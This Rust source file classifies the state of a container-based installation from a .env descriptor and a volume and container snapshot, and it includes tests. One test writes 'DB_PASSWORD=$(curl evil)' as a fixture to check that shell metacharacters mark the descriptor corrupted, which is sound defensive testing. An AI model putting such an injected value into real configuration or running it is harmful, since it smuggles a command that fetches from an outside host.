// State classifier
//
// Priority order:
//   1. no descriptor and no volumes              => Fresh
//   2. valid descriptor with a recognized secret => Complete
//   3. descriptor present but invalid/unreadable => Corrupted
//   4. anything else                             => Partial
//
// `classify` is pure and total; `observe` gathers its inputs and never fails.

use log::{info, warn};
use std::path::Path;

use crate::descriptor::{self, ParseReport};
use crate::installation::engine::{ContainerEngine, ContainerSummary};
use crate::models::state::InstallationState;
use crate::models::volumes::VolumeSnapshot;

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum DescriptorPresence {
    Absent,
    /// Exists but could not be read.
    Unreadable,
    Parsed { valid: bool, has_secret: bool },
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct ClassifierInputs {
    pub descriptor: DescriptorPresence,
    /// Matching volumes exist, or the engine could not be asked.
    pub volumes_may_exist: bool,
}

pub fn classify(inputs: &ClassifierInputs) -> InstallationState {
    match inputs.descriptor {
        DescriptorPresence::Absent => {
            if inputs.volumes_may_exist {
                InstallationState::Partial
            } else {
                InstallationState::Fresh
            }
        }
        DescriptorPresence::Parsed {
            valid: true,
            has_secret: true,
        } => InstallationState::Complete,
        DescriptorPresence::Unreadable | DescriptorPresence::Parsed { valid: false, .. } => {
            InstallationState::Corrupted
        }
        DescriptorPresence::Parsed { .. } => InstallationState::Partial,
    }
}

/// Everything observed about the host for one invocation.
#[derive(Debug, Clone)]
pub struct Observation {
    pub state: InstallationState,
    /// Raw descriptor text, when it could be read.
    pub raw_descriptor: Option<String>,
    pub parsed: Option<ParseReport>,
    pub containers: Vec<ContainerSummary>,
    pub inputs: ClassifierInputs,
}

impl Observation {
    pub fn running_services(&self) -> Vec<String> {
        self.containers
            .iter()
            .filter(|c| c.state.is_running())
            .filter_map(|c| c.service.clone())
            .collect()
    }
}

/// Read the descriptor and query the engine, then classify.
pub async fn observe(
    descriptor_path: &Path,
    snapshot: &VolumeSnapshot,
    engine: &dyn ContainerEngine,
) -> Observation {
    let (presence, raw, parsed) = match descriptor::read(descriptor_path).await {
        Ok(None) => (DescriptorPresence::Absent, None, None),
        Ok(Some(raw)) => {
            let report = descriptor::parse(&raw);
            for issue in &report.issues {
                warn!(
                    "[PHASE: reconcile] [STEP: classify] Descriptor line {}: {:?}{}",
                    issue.line,
                    issue.kind,
                    issue.key.as_deref().map(|k| format!(" ({})", k)).unwrap_or_default()
                );
            }
            let presence = DescriptorPresence::Parsed {
                valid: report.is_valid(),
                has_secret: report.descriptor.has_any_secret(),
            };
            (presence, Some(raw), Some(report))
        }
        Err(e) => {
            warn!(
                "[PHASE: reconcile] [STEP: classify] Descriptor exists but is unreadable: {:#}",
                e
            );
            (DescriptorPresence::Unreadable, None, None)
        }
    };

    let containers = if snapshot.engine_reachable {
        engine.list_containers().await.unwrap_or_else(|e| {
            warn!(
                "[PHASE: reconcile] [STEP: classify] Could not list containers: {:#}",
                e
            );
            Vec::new()
        })
    } else {
        Vec::new()
    };

    let inputs = ClassifierInputs {
        descriptor: presence,
        volumes_may_exist: !snapshot.engine_reachable || snapshot.any_present(),
    };
    let state = classify(&inputs);
    info!(
        "[PHASE: reconcile] [STEP: classify] Installation state: {} (descriptor={:?}, volumes_may_exist={}, containers={})",
        state,
        inputs.descriptor,
        inputs.volumes_may_exist,
        containers.len()
    );

    Observation {
        state,
        raw_descriptor: raw,
        parsed,
        containers,
        inputs,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::testing::StubEngine;

    fn all_presences() -> Vec<DescriptorPresence> {
        let mut out = vec![DescriptorPresence::Absent, DescriptorPresence::Unreadable];
        for valid in [false, true] {
            for has_secret in [false, true] {
                out.push(DescriptorPresence::Parsed { valid, has_secret });
            }
        }
        out
    }

    #[test]
    fn classify_is_total_and_follows_priority() {
        for descriptor in all_presences() {
            for volumes_may_exist in [false, true] {
                let inputs = ClassifierInputs {
                    descriptor,
                    volumes_may_exist,
                };
                let expected = match descriptor {
                    DescriptorPresence::Absent if !volumes_may_exist => InstallationState::Fresh,
                    DescriptorPresence::Parsed { valid: true, has_secret: true } => {
                        InstallationState::Complete
                    }
                    DescriptorPresence::Unreadable
                    | DescriptorPresence::Parsed { valid: false, .. } => {
                        InstallationState::Corrupted
                    }
                    _ => InstallationState::Partial,
                };
                assert_eq!(classify(&inputs), expected, "{:?}", inputs);
            }
        }
    }

    #[tokio::test]
    async fn nothing_on_disk_and_no_volumes_is_fresh() {
        let dir = tempfile::tempdir().unwrap();
        let engine = StubEngine::new();
        let obs = observe(&dir.path().join(".env"), &VolumeSnapshot::new(true), &engine).await;
        assert_eq!(obs.state, InstallationState::Fresh);
    }

    #[tokio::test]
    async fn unreachable_engine_is_never_fresh() {
        let dir = tempfile::tempdir().unwrap();
        let engine = StubEngine::new().unreachable();
        let obs = observe(&dir.path().join(".env"), &VolumeSnapshot::new(false), &engine).await;
        assert_eq!(obs.state, InstallationState::Partial);
    }

    #[tokio::test]
    async fn metacharacters_make_descriptor_corrupted() {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join(".env");
        tokio::fs::write(&path, "DB_USER=u1\nDB_PASSWORD=$(curl evil)\n").await.unwrap();
        let obs = observe(&path, &VolumeSnapshot::new(true), &StubEngine::new()).await;
        assert_eq!(obs.state, InstallationState::Corrupted);
        assert!(obs.raw_descriptor.is_some());
    }

    #[tokio::test]
    async fn valid_descriptor_with_secret_is_complete() {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join(".env");
        tokio::fs::write(&path, "# stack\nDOMAIN=x\ndb_password=p1\n").await.unwrap();
        let obs = observe(&path, &VolumeSnapshot::new(true), &StubEngine::new()).await;
        assert_eq!(obs.state, InstallationState::Complete);
    }

    #[tokio::test]
    async fn running_services_come_from_compose_labels() {
        let dir = tempfile::tempdir().unwrap();
        let engine = StubEngine::new().with_running("database").with_running("backend");
        let obs = observe(&dir.path().join(".env"), &VolumeSnapshot::new(true), &engine).await;
        // Leftover containers without data do not make an installation.
        assert_eq!(obs.state, InstallationState::Fresh);
        let mut running = obs.running_services();
        running.sort();
        assert_eq!(running, vec!["backend", "database"]);
    }
}
